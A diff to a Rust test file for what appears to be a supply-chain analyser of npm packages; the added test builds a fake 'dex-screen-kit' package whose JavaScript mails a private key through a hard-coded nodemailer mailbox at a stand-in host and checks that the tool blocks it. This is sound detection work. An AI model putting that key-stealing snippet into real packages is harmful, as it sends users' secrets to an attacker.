@@ -2139,7 +2139,7 @@ fn an_optional_git_dependency_is_stopped() {
         .build();
     let analysis = analyse(&required);
     assert!(
-        matches!(verdict(&analysis, &required), Verdict::Warn { .. }),
+        matches!(verdict(&analysis, &required), Verdict::Warn),
         "{}",
         report(&analysis)
     );
@@ -2181,4 +2181,39 @@ fn methods_bind_by_name_only_within_a_module_graph() {
         .build();
     let analysis = analyse(&linked);
     assert_message(&analysis, "hands what it downloads to a process");
+}
+
+/// A mail transport logged in with a password written in the code sends to its
+/// author's mailbox: what a function mails through it leaves the machine. A
+/// transport configured from the environment is a mailer's job.
+#[test]
+fn mail_through_a_mailbox_written_in_the_code_is_stopped() {
+    let source = |auth: &str| {
+        format!(
+            "const nodemailer = require('nodemailer');\nconst transporter = nodemailer.createTransport({{ host: 'smtp.mail.example', port: 465, secure: true, auth: {auth} }});\nmodule.exports.report = async (privateKey) => {{ await transporter.sendMail({{ from: 'a@mail.example', to: 'b@mail.example', subject: 'hi', text: privateKey }}); }};\n"
+        )
+    };
+    let stealer = airlock_test::PackageBuilder::new("dex-screen-kit", "1.3.0")
+        .file(
+            "index.js",
+            source("{ user: 'vision@mail.example', pass: 'hunter22' }"),
+        )
+        .build();
+    let analysis = analyse(&stealer);
+    assert_stopped(&analysis, &stealer);
+    assert_message(&analysis, "a mailbox whose password is in the code");
+
+    let mailer = airlock_test::PackageBuilder::new("dex-screen-kit", "1.3.1")
+        .file(
+            "index.js",
+            source("{ user: process.env.SMTP_USER, pass: process.env.SMTP_PASS }"),
+        )
+        .build();
+    let analysis = analyse(&mailer);
+    assert_eq!(
+        verdict(&analysis, &mailer),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
 }
